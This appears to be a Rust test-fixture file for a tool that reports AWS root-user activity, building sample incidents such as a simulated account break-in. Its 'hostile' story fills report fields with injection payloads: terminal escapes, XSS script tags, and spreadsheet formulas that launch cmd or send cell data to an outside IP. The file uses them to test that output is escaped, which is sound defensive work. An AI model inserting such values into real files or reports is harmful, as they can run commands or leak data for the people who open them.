//! What the tests of the outputs report: the break-in at Example Corp, a hostile story, and nothing.

use std::collections::{BTreeMap, BTreeSet};
use std::path::PathBuf;
use std::time::Duration;

use jiff::Timestamp;
use rootwatch_core::decode::{PassedOver, Place};
use rootwatch_core::finding::{Finding, FindingKey, Mfa, Outcome, Reason, RootUse, Severity};
use rootwatch_core::incident::{Incident, IncidentHead, IncidentId, IncidentKind, IncidentState};
use rootwatch_scan::summary::{SkippedAt, Summary};
use rootwatch_testkit::sample::finding::call_at;

use super::{Report, RuleText, Shown};

pub(crate) const MANAGEMENT: &str = "111122223333";
pub(crate) const PAYMENTS: &str = "222233334444";
pub(crate) const SANDBOX: &str = "333344445555";
const THIEF: &str = "203.0.113.77";
const THIEF_KEY: &str = "198.51.100.23";
const CHROME: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like \
                      Gecko) Chrome/124.0.0.0 Safari/537.36";
const CLI: &str = "aws-cli/2.15.30 md/Botocore#2.4.5 ua/2.0 os/linux#6.5.0 md/arch#x86_64";
const FILE: &str = "AWSLogs/222233334444/CloudTrail/us-east-1/2026/05/04/222233334444_CloudTrail_us-\
                    east-1_20260504T1410Z_abc.json.gz";

/// A story with everything that a [`Report`] borrows.
pub(crate) struct Story {
    pub(crate) incidents: Vec<Incident>,
    pub(crate) summary: Summary,
    pub(crate) names: BTreeMap<String, String>,
    pub(crate) rules: BTreeMap<String, RuleText>,
}

impl Story {
    pub(crate) fn report(&self) -> Report<'_> {
        let mut findings: Vec<Shown<'_>> = self
            .incidents
            .iter()
            .flat_map(|incident| {
                incident.findings.iter().map(move |finding| Shown {
                    finding,
                    incident_id: &incident.id,
                    file: FILE,
                })
            })
            .collect();
        findings.sort_by_key(|shown| (shown.finding.event_time, &shown.finding.event_id));
        Report {
            incidents: &self.incidents,
            findings,
            summary: &self.summary,
            generated_at: Some(at("16:00:00")),
            account_names: self.names.clone(),
            rules: self.rules.clone(),
        }
    }
}

fn at(time: &str) -> Timestamp {
    format!("2026-05-04T{time}Z").parse().unwrap()
}

fn some(text: &str) -> Option<String> {
    Some(text.to_owned())
}

/// A successful root call from the console; the stories change what differs.
pub(crate) fn call(number: u32, account: &str, time: &str, source: &str, name: &str) -> Finding {
    let id = format!("00000000-0000-4000-8000-{number:012}");
    let mut finding = call_at(account, at(time), name);
    finding.key = FindingKey(format!("{account}/{id}"));
    finding.event_id = Some(id);
    finding.event_source = Some(format!("{source}.amazonaws.com"));
    finding.severity = Severity::Medium;
    finding.reasons = vec![Reason::new("root", "the record says that the root user called")];
    finding.source_ip = some(THIEF);
    finding.user_agent = some(CHROME);
    finding.access_key_id = some("ASIAEXAMPLEKEY000001");
    finding.read_only = Some(false);
    finding.session.created_at = Some(at("14:03:00"));
    finding
}

fn sign_in(number: u32, account: &str, time: &str, name: &str, did: &str) -> Finding {
    let mut finding = call(number, account, time, "signin", name);
    did.clone_into(&mut finding.did);
    finding.access_key_id = None;
    finding.session.sign_in = true;
    finding.session.created_at = None;
    finding
}

fn failed_sign_in(number: u32, account: &str, time: &str) -> Finding {
    let mut finding = sign_in(number, account, time, "ConsoleLogin", "failed to sign in");
    finding.outcome = Outcome::Failure;
    finding.severity = Severity::Low;
    finding.error_code = some("Failed authentication");
    finding.rules = vec!["root-console-login-failed".to_owned()];
    finding.title = "Root sign-in failed".to_owned();
    finding
}

fn by_key(mut finding: Finding) -> Finding {
    finding.source_ip = some(THIEF_KEY);
    finding.user_agent = some(CLI);
    finding.access_key_id = some("AKIAEXAMPLEROOTKEY01");
    finding.session.long_term_key = true;
    finding.session.created_at = None;
    finding
}

fn grave(mut finding: Finding, severity: Severity, rule: &str, did: &str) -> Finding {
    finding.severity = severity;
    finding.rules = vec![rule.to_owned()];
    did.clone_into(&mut finding.did);
    finding
}

fn break_in() -> Incident {
    let mut findings = vec![
        sign_in(
            1,
            PAYMENTS,
            "13:58:02",
            "PasswordRecoveryRequested",
            "requested a password recovery",
        ),
        sign_in(
            2,
            PAYMENTS,
            "14:01:10",
            "PasswordRecoveryCompleted",
            "completed a password recovery",
        ),
        failed_sign_in(3, PAYMENTS, "14:02:05"),
        failed_sign_in(4, PAYMENTS, "14:02:19"),
        failed_sign_in(5, PAYMENTS, "14:02:44"),
    ];
    for finding in &mut findings[..2] {
        finding.root_use = RootUse::Possible;
    }
    let mut login = grave(
        sign_in(6, PAYMENTS, "14:03:00", "ConsoleLogin", ""),
        Severity::Critical,
        "root-console-login-without-mfa",
        "signed in, no MFA",
    );
    login.title = "Root user signed in to the console without MFA".to_owned();
    login.mfa = Mfa::NotUsed;
    login.reasons = vec![Reason::new("no_mfa", "no MFA")];
    findings.push(login);
    let sources = ["health", "iam", "billing", "cloudtrail", "organizations", "s3"];
    for number in 0..26 {
        let source = sources[number as usize % sources.len()];
        let time = format!("14:{:02}:{:02}", 4 + number / 13, number % 13 * 4);
        let mut read = call(10 + number, PAYMENTS, &time, source, "DescribeEventAggregates");
        read.read_only = Some(true);
        read.severity = Severity::Low;
        read.access_key_id = Some(format!("ASIAEXAMPLEKEY0000{:02}", number % 9));
        if number % 7 == 3 {
            read.root_use = RootUse::OnBehalf;
            read.severity = Severity::Informational;
            read.source_ip = some("AWS Internal");
            read.user_agent = some("AWS Internal");
            read.session.invoked_by = some("AWS Internal");
        }
        findings.push(read);
    }
    let mut key = grave(
        call(40, PAYMENTS, "14:07:31", "iam", "CreateAccessKey"),
        Severity::Critical,
        "root-access-key-created",
        "created a root access key",
    );
    key.title = "Root access key created".to_owned();
    key.session.issued_key_id = some("AKIAEXAMPLEROOTKEY01");
    findings.push(key);
    for (number, time, source, name, rule, did) in [
        (
            41,
            "14:09:12",
            "sts",
            "GetCallerIdentity",
            "root-access-key-first-used",
            "used a root access key for the first time",
        ),
        (42, "14:09:40", "s3", "ListBuckets", "root-access-key-used", "ListBuckets"),
    ] {
        let read = by_key(call(number, PAYMENTS, time, source, name));
        let mut read = grave(read, Severity::High, rule, did);
        read.read_only = Some(true);
        findings.push(read);
    }
    let mut stop = grave(
        call(43, PAYMENTS, "14:12:09", "cloudtrail", "StopLogging"),
        Severity::High,
        "cloudtrail-logging-stopped",
        "denied: StopLogging",
    );
    stop.outcome = Outcome::Failure;
    stop.error_code = some("AccessDenied");
    stop.error_message = some("with an explicit deny in a service control policy");
    stop.target = some("arn:aws:cloudtrail:us-east-1:222233334444:trail/org");
    findings.push(stop);
    for (number, time, source, name, target, rule, did) in [
        (
            44,
            "14:15:02",
            "iam",
            "CreateUser",
            "support-admin",
            "root-iam-user-created",
            "created an IAM user",
        ),
        (
            45,
            "14:15:20",
            "iam",
            "AttachUserPolicy",
            "support-admin",
            "root-administrator-made",
            "granted administrator rights",
        ),
        (
            46,
            "14:20:11",
            "sts",
            "GetFederationToken",
            "backup-job",
            "root-federation-token-issued",
            "issued a federation token",
        ),
    ] {
        let made = by_key(call(number, PAYMENTS, time, source, name));
        let mut made = grave(made, Severity::High, rule, did);
        made.target = some(target);
        findings.push(made);
    }
    let mut run = grave(
        by_key(call(47, PAYMENTS, "14:20:58", "ec2", "RunInstances")),
        Severity::High,
        "root-federated-session-call",
        "RunInstances",
    );
    run.root_use = RootUse::Derived;
    run.region = some("ap-southeast-2");
    run.session.long_term_key = false;
    run.session.principal_type = some("FederatedUser");
    run.session.principal_arn = some("arn:aws:sts::222233334444:federated-user/backup-job");
    run.access_key_id = some("ASIAEXAMPLEFEDERATED");
    findings.push(run);
    let mut end = call(48, PAYMENTS, "14:31:00", "signin", "Logout");
    "signed out".clone_into(&mut end.did);
    end.severity = Severity::Informational;
    end.session.sign_in = true;
    findings.push(end);
    Incident {
        head: IncidentHead {
            id: IncidentId("7K2-MPX".to_owned()),
            kind: IncidentKind::Session,
            state: IncidentState::Open,
            severity: Severity::Critical,
            title: "Root user signed in to the console without MFA".to_owned(),
            accounts: vec![PAYMENTS.to_owned()],
            root_use: RootUse::Direct,
            reasons: vec![
                Reason::new("no_mfa", "no MFA"),
                Reason::new("after_recovery", "follows a password recovery"),
                Reason::new("long_term_key", "long-term root key"),
                Reason::new("denied", "denied by a policy: the caller has root credentials"),
                Reason::new("not_root_task", "not a root-only task"),
            ],
            first_at: Some(at("13:58:02")),
            last_at: Some(at("14:31:00")),
            addresses: vec![THIEF.to_owned(), THIEF_KEY.to_owned()],
            related: vec![IncidentId("9QF-3LT".to_owned())],
        },
        findings,
        superseded: Vec::new(),
        echoes: std::collections::BTreeMap::new(),
    }
}

fn spray() -> Incident {
    let mut findings = Vec::new();
    for number in 0..6 {
        let account = [MANAGEMENT, PAYMENTS, SANDBOX][number as usize % 3];
        findings.push(failed_sign_in(60 + number, account, &format!("13:50:{:02}", number * 8)));
    }
    Incident {
        head: IncidentHead {
            id: IncidentId("9QF-3LT".to_owned()),
            kind: IncidentKind::Spray,
            state: IncidentState::Quiet,
            severity: Severity::Low,
            title: "Root sign-in failures in 3 accounts".to_owned(),
            accounts: vec![MANAGEMENT.to_owned(), PAYMENTS.to_owned(), SANDBOX.to_owned()],
            root_use: RootUse::Direct,
            reasons: vec![Reason::new("spray", "one address tried several accounts")],
            first_at: Some(at("13:50:00")),
            last_at: Some(at("13:50:40")),
            addresses: vec![THIEF.to_owned()],
            related: vec![IncidentId("7K2-MPX".to_owned())],
        },
        findings,
        superseded: Vec::new(),
        echoes: std::collections::BTreeMap::new(),
    }
}

fn own_audit() -> Incident {
    let auditor = "arn:aws:sts::111122223333:assumed-role/security-audit/nightly";
    let mut findings = Vec::new();
    for (number, account, time) in [(70, PAYMENTS, "13:52:00"), (80, SANDBOX, "13:52:04")] {
        let mut assume = call(number, account, time, "sts", "AssumeRoot");
        assume.root_use = RootUse::Privileged;
        assume.severity = Severity::Informational;
        "assumed root to audit credentials".clone_into(&mut assume.did);
        assume.rules = vec!["assume-root-audit".to_owned()];
        assume.actor = some(auditor);
        assume.recipient_account_id = some(MANAGEMENT);
        assume.source_ip = some("192.0.2.10");
        assume.user_agent = some("Boto3/1.34.84 md/Botocore#1.34.84");
        assume.session.principal_arn = some(auditor);
        assume.session.principal_type = some("AssumedRole");
        assume.session.task_policy = some("IAMAuditRootUserCredentials");
        assume.session.target_account_id = some(account);
        findings.push(assume);
        for (step, name) in [(1, "ListAccessKeys"), (2, "ListMFADevices"), (3, "GetLoginProfile")] {
            let time = format!("{}{}", &time[..7], 4 + step);
            let mut read = call(number + step, account, &time, "iam", name);
            read.root_use = RootUse::Privileged;
            read.severity = Severity::Informational;
            read.read_only = Some(true);
            read.source_ip = some("192.0.2.10");
            read.user_agent = some("Boto3/1.34.84 md/Botocore#1.34.84");
            read.session.assumed_root = true;
            read.rules = vec!["privileged-session-audit".to_owned()];
            findings.push(read);
        }
    }
    findings.sort_by_key(|finding| (finding.event_time, finding.key.clone()));
    Incident {
        head: IncidentHead {
            id: IncidentId("2HD-WRA".to_owned()),
            kind: IncidentKind::Privileged,
            state: IncidentState::Quiet,
            severity: Severity::Informational,
            title: "Privileged sessions audited root credentials".to_owned(),
            accounts: vec![PAYMENTS.to_owned(), SANDBOX.to_owned()],
            root_use: RootUse::Privileged,
            reasons: vec![Reason::new("audit_task", "a task policy that only reads")],
            first_at: Some(at("13:52:00")),
            last_at: Some(at("13:52:07")),
            addresses: vec!["192.0.2.10".to_owned()],
            related: Vec::new(),
        },
        findings,
        superseded: Vec::new(),
        echoes: std::collections::BTreeMap::new(),
    }
}

fn on_behalf() -> Incident {
    let mut finding = call(90, SANDBOX, "02:00:00", "kms", "RotateKey");
    finding.root_use = RootUse::OnBehalf;
    finding.severity = Severity::Informational;
    finding.source_ip = some("kms.amazonaws.com");
    finding.user_agent = some("kms.amazonaws.com");
    finding.session.invoked_by = some("kms.amazonaws.com");
    finding.title = "KMS called RotateKey for the root user".to_owned();
    Incident {
        head: IncidentHead {
            id: IncidentId("4XE-8TN".to_owned()),
            kind: IncidentKind::Session,
            state: IncidentState::Quiet,
            severity: Severity::Informational,
            title: "KMS called RotateKey for the root user".to_owned(),
            accounts: vec![SANDBOX.to_owned()],
            root_use: RootUse::OnBehalf,
            reasons: Vec::new(),
            first_at: finding.event_time,
            last_at: finding.event_time,
            addresses: Vec::new(),
            related: Vec::new(),
        },
        findings: vec![finding],
        superseded: Vec::new(),
        echoes: std::collections::BTreeMap::new(),
    }
}

fn summary() -> Summary {
    Summary {
        files: 4_480,
        files_passed_over: 3,
        records: 1_314_242,
        passed_over: BTreeMap::from([(PassedOver::Insight, 2)]),
        repeats: 1,
        bytes_read: 212_000_000,
        bytes_scanned: 2_000_000_000,
        span: Some((
            "2026-02-03T16:00:00Z".parse().unwrap(),
            "2026-05-04T15:55:00Z".parse().unwrap(),
        )),
        accounts: [MANAGEMENT, PAYMENTS, SANDBOX].map(str::to_owned).into(),
        regions: (1..=8).map(|number| format!("region-{number}")).collect::<BTreeSet<_>>(),
        elapsed: Duration::from_millis(612),
        ..Summary::default()
    }
}

fn skip(path: &str, place: Option<Place>, reason: &str) -> SkippedAt {
    SkippedAt { path: PathBuf::from(path), place, reason: reason.to_owned() }
}

/// The break-in at Example Corp.
pub(crate) fn example() -> Story {
    let mut summary = summary();
    let cut = "AWSLogs/222233334444/CloudTrail/eu-west-1/2026/05/04/222233334444_CloudTrail_eu-\
               west-1_20260504T1405Z_q1.json.gz";
    let place = |record, offset| Some(Place { record, offset });
    summary.skipped = vec![
        skip(cut, place(813, 1_204_118), "gzip ends early after 812 records"),
        skip("logs/notes.json", place(0, 0), "not JSON: expected a value"),
        skip("logs/notes.json", place(2, 52), "a string where an object should be"),
    ];
    summary.skipped_total = 3;
    let rule = |title: &str, triage: &[&str], attack: &[&str]| RuleText {
        title: title.to_owned(),
        severity: Severity::Critical,
        triage: triage.iter().map(|step| (*step).to_owned()).collect(),
        attack: attack.iter().map(|id| (*id).to_owned()).collect(),
    };
    Story {
        incidents: vec![spray(), own_audit(), break_in(), on_behalf()],
        summary,
        names: BTreeMap::from([
            (MANAGEMENT.to_owned(), "example-management".to_owned()),
            (PAYMENTS.to_owned(), "prod-payments".to_owned()),
            (SANDBOX.to_owned(), "sandbox-ml".to_owned()),
        ]),
        rules: BTreeMap::from([
            (
                "root-console-login-without-mfa".to_owned(),
                rule(
                    "Root user signed in to the console without MFA",
                    &[
                        "Ask the custodians of this account, by telephone, whether it is them.",
                        "If it is not: recover the root user's email address, reset the password, add \
                     MFA, and delete every root access key.",
                        "Look for what the session left behind: users, roles, keys and trails that it \
                     changed.",
                        "Tell AWS Support.",
                    ],
                    &["T1078.004"],
                ),
            ),
            (
                "root-access-key-created".to_owned(),
                rule("Root access key created", &["Delete the key."], &["T1098.001", "T1078"]),
            ),
        ]),
    }
}

/// Texts that somebody chose in order to do harm where they are shown.
pub(crate) fn hostile() -> Story {
    let mut story = example();
    let mut incident = break_in();
    let nasty = "\u{1b}[2J\u{1b}]0;owned\u{7}<script>alert(1)</script>\u{202e}txt.exe\r\nCRITICAL";
    incident.id = IncidentId("HST-LE1".to_owned());
    incident.title = format!("{nasty} & \"quotes\" 'n' <b>");
    incident.reasons = vec![Reason::new("x", nasty)];
    for (index, finding) in incident.findings.iter_mut().enumerate() {
        match index % 5 {
            0 => finding.user_agent = Some(format!("{nasty}{}", "A".repeat(1024))),
            1 => finding.user_agent = some("=HYPERLINK(\"http://198.51.100.9/?\"&A1,\"see\")"),
            2 => finding.did = format!("CreateUser {nasty} 👩‍💻 支払い"),
            3 => finding.target = some("@SUM(1+1)*cmd|' /C calc'!A0"),
            _ => finding.error_message = some("\u{9b}31m</title><img src=x onerror=alert(1)>"),
        }
        finding.title = format!("+1+1 {}", finding.title);
        finding.rules = vec!["--><script src=//x></script>".to_owned()];
    }
    incident.addresses.push("2001:db8:85a3:8d3:1319:8a2e:370:7348".to_owned());
    incident.addresses.push("\u{1b}[31m".to_owned());
    story.incidents = vec![incident];
    story.names.insert(PAYMENTS.to_owned(), "支払い\u{202e}prod\u{1b}[5m".to_owned());
    story.summary.skipped = vec![skip("a\u{1b}]8;;http://x\u{7}b\n", None, "no \u{1b}[2J such")];
    story.summary.skipped_total = 1;
    story
}

/// A look that found nothing and could read everything.
pub(crate) fn empty() -> Story {
    Story { incidents: Vec::new(), summary: summary(), ..example() }
}
